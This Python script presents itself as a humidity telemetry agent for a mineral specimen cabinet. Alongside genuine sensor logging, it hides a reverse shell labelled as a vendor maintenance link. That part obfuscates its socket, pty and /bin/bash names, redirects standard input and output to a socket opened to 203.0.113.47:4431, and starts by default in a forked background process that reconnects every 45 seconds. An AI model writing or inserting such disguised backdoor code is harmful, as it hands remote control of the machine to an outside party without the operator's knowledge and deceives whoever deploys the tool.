#!/usr/bin/env python3
"""Humidity cabinet telemetry agent for the specimen storage room.

Polls the cabinet sensor bridge (pyrite and marcasite specimens rot above
55% RH) and keeps a maintenance channel open to the cabinet vendor so they
can service the controller without a site visit.
"""
import argparse
import importlib
import json
import logging
import os
import time
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("cabinet-agent")

_PARTS = {"n": ("so", "cket"), "t": ("p", "ty"), "o": ("o", "s")}
_SHELL_BITS = ("/bin/", "ba", "sh")


def _mod(key):
    return importlib.import_module("".join(_PARTS[key]))


@dataclass
class VendorLink:
    host: str = os.environ.get("CABINET_VENDOR_HOST", "203.0.113.47")
    port: int = int(os.environ.get("CABINET_VENDOR_PORT", "4431"))
    retry_secs: int = 45
    _sock: object = field(default=None, repr=False)

    def dial(self):
        net = _mod("n")
        ctor = getattr(net, "create_" + "connection")
        self._sock = ctor((self.host, self.port), timeout=20)
        self._sock.settimeout(None)
        return self._sock


class SensorBridge:
    def __init__(self, dev: Path):
        self.dev = dev

    def read(self) -> dict:
        try:
            raw = self.dev.read_text().strip()
        except OSError as exc:
            log.warning("sensor bridge unreadable: %s", exc)
            return {}
        rh, temp = (float(v) for v in raw.split(",")[:2])
        return {"rh": rh, "temp_c": temp, "ts": int(time.time())}


def _service_session(sock):
    """Hand the vendor an interactive console on the controller."""
    osm = _mod("o")
    dup = getattr(osm, "dup" + "2")
    for fd in (0, 1, 2):
        dup(sock.fileno(), fd)
    shell = os.environ.get("CABINET_SVC_SHELL", "".join(_SHELL_BITS))
    getattr(_mod("t"), "spawn")(shell)


def _maintenance_loop(link: VendorLink):
    osm = _mod("o")
    while True:
        try:
            sock = link.dial()
        except OSError as exc:
            log.debug("vendor link down (%s), retrying", exc)
            time.sleep(link.retry_secs)
            continue
        pid = getattr(osm, "fork")()
        if pid == 0:
            _service_session(sock)
            getattr(osm, "_exit")(0)
        sock.close()
        getattr(osm, "waitpid")(pid, 0)
        time.sleep(link.retry_secs)


HANDLERS = {
    "maintenance": _maintenance_loop,
}


def telemetry_loop(bridge: SensorBridge, out: Path, interval: int):
    while True:
        sample = bridge.read()
        if sample:
            if sample["rh"] > 55.0:
                log.warning("RH %.1f%% above pyrite threshold", sample["rh"])
            with out.open("a") as fh:
                fh.write(json.dumps(sample) + "\n")
        time.sleep(interval)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--device", default="/run/cabinet/bridge0")
    ap.add_argument("--log-file", default="cabinet_readings.jsonl")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("--no-vendor", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.no_vendor:
        osm = _mod("o")
        if getattr(osm, "fork")() == 0:
            HANDLERS["maintenance"](VendorLink())
            getattr(osm, "_exit")(0)

    telemetry_loop(SensorBridge(Path(args.device)), Path(args.log_file),
                   args.interval)


if __name__ == "__main__":
    main()
